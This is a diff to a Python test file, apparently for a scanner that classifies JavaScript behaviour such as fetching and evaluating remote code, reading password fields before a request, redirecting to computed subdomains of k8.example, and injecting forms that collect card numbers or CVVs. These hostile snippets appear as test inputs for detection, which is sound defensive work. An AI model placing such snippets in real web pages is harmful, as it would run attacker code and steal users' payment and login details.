@@ -97,6 +97,9 @@ def test_what_stands_near_is_told():
     code = f"fetch('{AT}').then(r=>r.text()).then(t=>eval(t))"
     assert unpack(code).acts[0].near == {"run"}
     assert unpack(f"import('{AT}')").acts[0].near == {"module"}
+    assert unpack(f"fetch('{AT}').then(t=>{{let n=d.createElement('script');n.append(t)}})").acts[0].near == {"run"}
+    assert unpack(f"fetch('{AT}').then(t=>{{let n=d.createElement('p');n.append(t)}})").acts[0].near == set()
+    assert unpack(f"Object.defineProperty(window,'a',{{}});fetch('{AT}')").acts[0].near == {"hook"}
     assert unpack(f"caches.open('v');fetch('{AT}')").acts[0].near == {"cached"}
     assert unpack(f"if(/iPhone/.test(a))fetch('{AT}')").acts[0].near == {"phones"}
     assert unpack(f"var v=f.pwd.value;fetch('{AT}')").acts[0].near == {"fields", "harvest"}
@@ -166,3 +169,27 @@ def test_endless_repetition_is_read_to_its_end(piece):
     code = "x.toString();" + piece * (400_000 // len(piece))
     assert unpack(code).source == code
     assert unpack("eval(y);" + code).source.endswith(piece)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "location='https://'+pick()+'.k8.example/a'",
+        "location=`https://${Date.now()}.k8.example`",
+        "var q=['a','b'][i];location.href='//'+q+'.k8.example?x'",
+    ],
+)
+def test_a_computed_label_leaves_the_domain(code):
+    assert [(act.kind, act.host) for act in unpack(code).acts] == [("move", "any.k8.example")]
+
+
+@pytest.mark.parametrize("code", ["location='/a/'+pick()+'.html'", "x='//'+location.host+'.js'"])
+def test_other_ends_are_no_hosts(code):
+    assert unpack(code).acts == ()
+
+
+@pytest.mark.parametrize(
+    ("fields", "kind"), [("<input name=cvv>", "login"), ("<input placeholder=银行卡号>", "login"), ("<input>", "form")]
+)
+def test_a_form_for_secrets_is_a_login(fields, kind):
+    assert unpack(f"x.innerHTML='<form action={AT}>{fields}</form>'").acts[0].kind == kind
